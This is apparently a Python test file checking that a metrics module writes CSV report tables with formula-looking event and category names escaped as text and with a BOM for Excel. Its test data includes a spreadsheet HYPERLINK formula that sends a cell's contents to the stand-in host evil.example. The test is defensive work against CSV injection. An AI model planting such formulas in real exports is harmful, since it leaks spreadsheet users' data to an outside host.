"""The report's CSV tables open in a spreadsheet as text: a hostile event or category name runs nothing."""

from __future__ import annotations

import copy
import csv

from fieldkit import metrics

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Northside")'


def test_report_tables_write_formula_looking_names_as_text_and_excel_gets_a_bom(day, tmp_path):
    _, _, doc = day
    doc = copy.deepcopy(doc)
    event = doc["events"][0]
    event["name"] = HOSTILE
    event["intent"]["by_category"] = {"@SUM(1+1)": v for v in list(event["intent"]["by_category"].values())[:1]}
    written = metrics.write_csv(doc, tmp_path / "tables", excel=True)
    for path in written:
        raw = path.read_bytes()
        assert raw.startswith(b"\xef\xbb\xbf")
        cells = [cell for row in csv.reader(raw.decode("utf-8-sig").splitlines()) for cell in row]
        assert not [cell for cell in cells if cell[:1] in ("=", "@", "+", "\t", "\r")]
    events = list(csv.DictReader((tmp_path / "tables" / "events.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert events[0]["event"] == "'" + HOSTILE
    intent = list(csv.DictReader((tmp_path / "tables" / "intent.csv").read_text(encoding="utf-8-sig").splitlines()))
    assert intent[0]["category"] == "'@SUM(1+1)"
